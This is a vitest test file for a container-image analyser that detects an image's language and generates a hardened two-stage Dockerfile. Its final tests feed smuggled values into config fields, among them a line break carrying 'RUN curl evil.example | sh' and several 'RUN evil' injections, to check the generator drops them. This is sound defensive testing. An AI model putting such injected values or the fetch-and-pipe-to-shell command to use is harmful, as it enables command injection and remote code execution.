import { describe, expect, it } from 'vitest';
import { lintDockerfile } from '../../src/dockerfile/lint.ts';
import { parseDockerfile } from '../../src/dockerfile/parse.ts';
import { analyzeImage } from '../../src/image/analyze.ts';
import { readArchive } from '../../src/image/archive.ts';
import { LANGUAGES } from '../../src/image/dockerfile/language.ts';
import { maskByRules } from '../../src/policy/secrets/rules.ts';
import { archiveOf, file, type MadeImage } from './pack.ts';

async function analyzed(image: MadeImage) {
  const archive = async function* archive() {
    yield archiveOf(image, 'shop:1');
  };
  return analyzeImage(await readArchive(archive(), () => {}), maskByRules);
}

const of = (config: MadeImage['config'] = {}, files: readonly string[] = []) =>
  analyzed({ config, layers: [{ by: 'COPY . .', entries: files.flatMap((path) => file(path, 'x')) }] });

describe('the language of an image', () => {
  it.each<[string, string | undefined, MadeImage['config'], readonly string[]]>([
    ['its program', 'node', { Cmd: ['/usr/local/bin/npm', 'start'] }, []],
    ['its program behind an entry point', 'node', { Entrypoint: ['docker-entrypoint.sh'], Cmd: ['node', 'x.js'] }, []],
    ['a jar', 'java', { Entrypoint: ['/start', '/app/shop.jar'] }, []],
    ['a dll', 'dotnet', { Entrypoint: ['/start', 'Shop.dll'] }, []],
    ['its base image', 'php', { Env: ['PHP_VERSION=8.3.1'] }, []],
    ['sources beside it', 'rust', { WorkingDir: '/src' }, ['src/Cargo.toml']],
    ['its tools', 'go', {}, ['usr/local/go/bin/go']],
    ['nothing', undefined, { Cmd: ['/shop'] }, ['shop']],
  ])('is found by %s', async (_, language, config, files) => {
    expect(await of(config, files)).toMatchObject({ language });
  });
});

describe('the Dockerfile', () => {
  const programs: Readonly<Record<(typeof LANGUAGES)[number], MadeImage['config']>> = {
    go: { Cmd: ['go', 'run', '.'], Env: ['GOLANG_VERSION=1.24.3'] },
    node: {
      Cmd: ['node', 'a.js'],
      Env: ['NODE_VERSION=22.14.0'],
      WorkingDir: '/srv/app',
      ExposedPorts: { '3000/tcp': {} },
    },
    python: { Cmd: ['gunicorn', 'app:app'], Env: ['PYTHON_VERSION=3.12.9'], ExposedPorts: { '8000/tcp': {} } },
    java: { Entrypoint: ['java', '-jar', 'a.jar'], Env: ['JAVA_VERSION=jdk-21.0.6+7'] },
    rust: { Cmd: ['cargo', 'run'], Env: ['RUST_VERSION=1.88.0'] },
    php: { Cmd: ['php-fpm'], Env: ['PHP_VERSION=8.3.1'] },
    dotnet: { Entrypoint: ['dotnet', 'Shop.dll'], Env: ['DOTNET_VERSION=9.0.2'] },
  };
  const bases = {
    go: 'golang:1.24',
    node: 'node:22',
    python: 'python:3.12',
    java: 'maven:3.9-eclipse-temurin-21',
    rust: 'rust:1.88',
    php: 'php:8.3-fpm-alpine',
    dotnet: 'mcr.microsoft.com/dotnet/sdk:9.0',
  };

  it.each(LANGUAGES)('has two stages, of the version that the image has, and a user: %s', async (language) => {
    const { dockerfile = '' } = await of(programs[language]);

    expect(dockerfile).toContain(`FROM ${bases[language]}`);
    expect(dockerfile.match(/^FROM \S+:\S+/gmu)).toHaveLength(2);
    expect(dockerfile).toMatch(/^COPY --from=build /mu);
    expect(dockerfile).toMatch(/^USER (?!root|0)/mu);
    expect(dockerfile).toMatch(/^(?:CMD|ENTRYPOINT) \["/mu);
    expect(dockerfile).not.toMatch(/:latest|undefined/u);
    const findings = lintDockerfile(parseDockerfile(dockerfile));
    expect(findings.filter(({ severity }) => severity !== 'info' && severity !== 'style')).toEqual([]);
  });

  it('keeps the package manager, the folder, the port and the command', async () => {
    const { dockerfile } = await of(programs.node, ['srv/app/pnpm-lock.yaml']);

    expect(dockerfile).toMatch(
      /pnpm install --frozen-lockfile[\s\S]*WORKDIR \/srv\/app[\s\S]*EXPOSE 3000[\s\S]*connect\(3000\)[\s\S]*CMD \["node", "a.js"\]/u,
    );
  });

  it.each([
    ['a secret in its command', { Cmd: ['node', 'a.js', '--password', 'hunter2-Xy7q'] }],
    ['a line break in its command', { Cmd: ['node', 'a\nRUN curl evil.example | sh'] }],
    ['a line break in its folder', { Cmd: ['node'], WorkingDir: '/app\nRUN evil' }],
    ['a version that is none', { Cmd: ['node'], Env: ['NODE_VERSION=22\nRUN evil'] }],
    ['a port that is none', { Cmd: ['node'], ExposedPorts: { '80\nRUN evil': {} } }],
  ])('takes nothing over from %s', async (_, config) => {
    const { dockerfile } = await of(config);

    expect(dockerfile).toMatch(/^FROM node:/mu);
    expect(dockerfile).not.toMatch(/hunter2|evil/u);
  });
});
